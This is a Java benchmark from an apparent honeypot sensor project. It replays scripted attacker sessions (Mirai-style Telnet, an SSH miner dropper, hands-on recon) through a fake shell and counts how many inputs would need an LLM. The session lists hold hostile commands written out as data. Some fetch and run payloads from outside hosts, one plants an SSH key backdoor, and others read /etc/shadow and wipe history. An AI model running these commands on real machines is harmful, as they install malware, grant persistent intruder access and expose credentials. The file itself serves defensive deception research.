package io.rustbucket.bench;

import io.rustbucket.sensor.record.EventAction;
import io.rustbucket.sensor.record.SensorEvent;
import io.rustbucket.sensor.record.SessionEvents;
import io.rustbucket.sensor.respond.Responder;
import io.rustbucket.sensor.respond.ResponderConfig;
import io.rustbucket.sensor.shell.FakeHost;
import io.rustbucket.sensor.shell.FakeMachine;
import io.rustbucket.sensor.shell.LoginPolicy;
import java.time.Clock;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.UUID;

/**
 * The built-in corpus of scripted attack sessions (issue #9, benchmark 4), replayed through the sensor's shell
 * and responder: what share of inputs the emulator answers without the LLM, and how many LLM calls a session
 * would make. The responder runs without a model, so every input that reaches it is counted as the LLM call it
 * would be on a cache miss; the cache is left out on purpose (each session counted cold, the worst case).
 * HTTP and SMTP sessions are protocol emulation only (their handlers never ask the LLM): their inputs count as
 * emulated, as they are.
 */
public final class SensorCorpus {
    private SensorCorpus() {}

    /** Mirai-style Telnet: login, shell escape attempts, busybox fingerprint, recon, dropper. */
    static final List<String> MIRAI = List.of(
            "enable",
            "system",
            "shell",
            "sh",
            "/bin/busybox ECCHI",
            "/bin/busybox ps; /bin/busybox ECCHI",
            "/bin/busybox cat /proc/mounts; /bin/busybox ECCHI",
            "cat /bin/echo",
            "/bin/busybox ECCHI",
            "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /",
            "/bin/busybox wget http://198.51.100.23:80/bins/mirai.x86 -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper",
            "./dvrHelper telnet.x86",
            "rm -rf dvrHelper",
            "exit");

    /** SSH brute force success, recon, dropper (the common "mdrfckr"/miner pattern). */
    static final List<String> SSH_DROPPER = List.of(
            "uname -a",
            "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
            "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
            "ls -lh $(which ls)",
            "which ls",
            "crontab -l",
            "w",
            "uname -m",
            "cat /proc/cpuinfo | grep model | grep name | wc -l",
            "top",
            "uname",
            "lscpu | grep Model",
            "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2E mdrfckr\">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~",
            "nproc",
            "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
            "cd /tmp; wget -q http://203.0.113.50/x.sh || curl -O http://203.0.113.50/x.sh; chmod +x x.sh; sh x.sh",
            "ps aux | grep -v grep | grep xmrig",
            "history -c",
            "exit");

    /** Hands-on recon an interactive intruder types. */
    static final List<String> SSH_RECON = List.of(
            "id",
            "whoami",
            "hostname",
            "cat /etc/passwd",
            "cat /etc/os-release",
            "ip a",
            "ip r",
            "ifconfig",
            "ps -ef",
            "df -h",
            "free -h",
            "uptime",
            "env",
            "ls -la /root",
            "ls -la /home",
            "cat /etc/shadow",
            "docker ps",
            "systemctl status sshd",
            "netstat -tulpn",
            "ss -tulpn",
            "last",
            "sudo -l",
            "echo $PATH",
            "which python3 perl gcc",
            "lsb_release -a",
            "cat /sys/class/dmi/id/product_name",
            "lspci | grep -i vga",
            "python3 -c 'import os; print(os.uname())'",
            "getent passwd | wc -l",
            "mount",
            "dmesg | tail",
            "exit");

    static final int HTTP_SWEEP_REQUESTS = 60;
    static final int SMTP_RUN_COMMANDS = 12;

    public static void main(String[] args) {
        int repeats = args.length > 0 ? Integer.parseInt(args[0]) : 100;
        FakeMachine machine = FakeMachine.forSensor("bench-sensor", null, Clock.systemUTC());
        Responder responder =
                new Responder(null, List.of("persona"), "", ResponderConfig.defaults(), Clock.systemUTC());
        FakeHost host = new FakeHost(machine, LoginPolicy.defaults(), responder);
        SessionEvents sink = new SessionEvents() {
            @Override
            public SensorEvent.Builder event(EventAction action) {
                return SensorEvent.builder(
                        action, Instant.now(), UUID.randomUUID().toString());
            }

            @Override
            public void record(SensorEvent event) {}
        };
        Map<String, List<String>> shells =
                Map.of("mirai-telnet", MIRAI, "ssh-dropper", SSH_DROPPER, "ssh-recon", SSH_RECON);
        long inputs = 0;
        long llm = 0;
        long sessions = 0;
        System.out.println("session            inputs  to-LLM  per-session");
        for (var e : shells.entrySet()) {
            long before = responder.counts().get(Responder.Source.FALLBACK);
            for (int r = 0; r < repeats; r++) {
                FakeHost.Session s = host.open("root", "198.51.100." + (r % 250 + 1), "ssh", sink);
                e.getValue().forEach(s::run);
            }
            long asked = responder.counts().get(Responder.Source.FALLBACK) - before;
            long n = (long) e.getValue().size() * repeats;
            System.out.printf("%-18s %7d %7d %12.2f%n", e.getKey(), n, asked, asked / (double) repeats);
            inputs += n;
            llm += asked;
            sessions += repeats;
        }
        System.out.printf("shell inputs only: %.1f%% answered without the LLM%n", 100.0 * (inputs - llm) / inputs);
        long protocolOnly = (long) (HTTP_SWEEP_REQUESTS + SMTP_RUN_COMMANDS) * repeats;
        System.out.printf("%-18s %7d %7d %12.2f%n", "http-sweep+smtp", protocolOnly, 0, 0.0);
        inputs += protocolOnly;
        sessions += 2L * repeats;
        System.out.printf(
                "total: %d inputs in %d sessions, %d would reach the LLM: %.1f%% answered without it, %.2f LLM calls"
                        + " per session%n",
                inputs, sessions, llm, 100.0 * (inputs - llm) / inputs, llm / (double) sessions);
    }
}
